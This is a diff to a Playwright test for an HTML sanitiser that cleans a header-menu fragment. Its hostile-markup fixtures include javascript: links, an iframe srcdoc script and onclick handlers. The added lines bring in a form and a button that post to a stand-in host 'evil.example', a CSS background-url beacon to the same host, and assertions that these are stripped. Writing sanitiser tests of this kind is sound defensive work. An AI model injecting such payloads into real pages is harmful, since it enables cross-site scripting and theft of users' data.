@@ -14,6 +14,9 @@ const HOSTILE = [
   `<svg><a id="svg-link" href="javascript:window.hacked='svg'"><text>x</text></a></svg>`,
   `<iframe id="frame" srcdoc="<script>parent.hacked='iframe'</script>"></iframe>`,
   `<p id="kept" data-part-number="VT1" onclick="window.hacked='onclick'">Kept text</p>`,
+  `<form id="steal" action="//evil.example/steal"><button formaction="https://evil.example/b">Send</button></form>`,
+  `<p id="beacon" style="background:url(//evil.example/x)">Styled</p>`,
+  `<form id="local" action="/pages/search-results.html"><button>Local</button></form>`,
 ].join("");
 
 test.beforeEach(async ({ page }) => {
@@ -68,4 +71,9 @@ test("a header-menu fragment with hostile markup is shown sanitised, through Vit
   expect(html).not.toMatch(/onerror|onclick|<script|javascript:|<iframe|srcdoc/i);
   await expect(panel.locator("#bad-img")).toHaveCount(1);
   await expect(panel.locator("#js-link")).not.toHaveAttribute("href", /./);
+  // No exfiltration path survives: off-origin form targets and CSS URLs are dropped, same-origin ones kept.
+  expect(html).not.toMatch(/evil\.example/);
+  await expect(panel.locator("#steal")).not.toHaveAttribute("action", /./);
+  await expect(panel.locator("#beacon")).toHaveText("Styled");
+  await expect(panel.locator("#local")).toHaveAttribute("action", "/pages/search-results.html");
 });
